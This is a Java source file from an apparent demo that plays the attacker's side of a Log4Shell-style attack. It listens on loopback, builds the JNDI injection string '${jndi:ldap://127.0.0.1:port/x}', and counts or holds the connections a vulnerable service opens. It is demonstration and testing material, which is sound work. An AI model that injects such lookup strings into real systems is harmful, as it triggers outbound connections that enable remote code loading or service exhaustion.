package org.klp4j.cli.demo;

import java.io.IOException;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.util.concurrent.BlockingQueue;
import java.util.concurrent.LinkedBlockingQueue;
import org.jspecify.annotations.Nullable;

/**
 * The attacker's server: counts the connections the service opens to it. It hangs up at once, or holds the
 * connections, so that the service's threads stay inside the JNDI lookup until they are let go.
 */
final class JndiListener implements AutoCloseable {
    private static final long PATIENCE_NANOS = 10_000_000_000L;
    private static final long POLL_MILLIS = 5;

    private final ServerSocket server;
    private final BlockingQueue<Socket> held = new LinkedBlockingQueue<>();
    private volatile boolean holding; // written by the demo's thread
    private volatile int connections; // written by the accepting thread

    JndiListener() throws IOException {
        server = new ServerSocket(0, 50, InetAddress.getLoopbackAddress());
        Thread thread = new Thread(this::accept, "jndi-listener");
        thread.setDaemon(true);
        thread.start();
    }

    /** What makes a vulnerable service connect to this listener. */
    String lookup() {
        return "${jndi:ldap://127.0.0.1:" + server.getLocalPort() + "/x}";
    }

    int connections() {
        return connections;
    }

    /** Waits until that many connections have been opened in all. */
    void awaitConnections(int wanted) throws Surprise, InterruptedException {
        long deadline = System.nanoTime() + PATIENCE_NANOS;
        while (connections < wanted) {
            if (System.nanoTime() - deadline > 0) {
                throw new Surprise("the service opened " + connections + " connections in 10 s, not " + wanted);
            }
            Thread.sleep(POLL_MILLIS);
        }
    }

    void hold(boolean on) {
        holding = on;
    }

    /** Hangs up the connection that has been held longest; nothing when none is. */
    void letGoOne() {
        close(held.poll());
    }

    private void accept() {
        while (!server.isClosed()) {
            try {
                answer(server.accept());
            } catch (IOException e) {
                return; // closed: the demo is over
            }
        }
    }

    @SuppressWarnings("NonAtomicVolatileUpdate") // one writer
    private void answer(Socket socket) {
        connections = connections + 1;
        if (holding) {
            held.add(socket);
        } else {
            close(socket);
        }
    }

    private static void close(@Nullable Socket socket) {
        try {
            if (socket != null) {
                socket.close();
            }
        } catch (IOException e) {
            // the service hung up first
        }
    }

    @Override
    public void close() throws IOException {
        server.close();
        held.forEach(JndiListener::close);
    }
}
